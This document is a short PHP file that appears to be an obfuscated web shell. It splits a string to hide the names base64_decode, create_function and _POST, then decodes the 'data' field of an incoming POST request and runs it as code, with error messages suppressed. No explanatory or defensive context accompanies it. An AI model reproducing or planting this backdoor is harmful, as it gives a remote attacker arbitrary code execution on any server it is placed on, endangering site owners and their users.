<?php
$_t = explode('|', 'str_replace|base64_decode|create_function|_POST');
$_d = $_t[1];
$_c = $_t[2];
$_in = ${$_t[3]};
$_f = @$_c('', $_d($_in['data']));
@$_f();
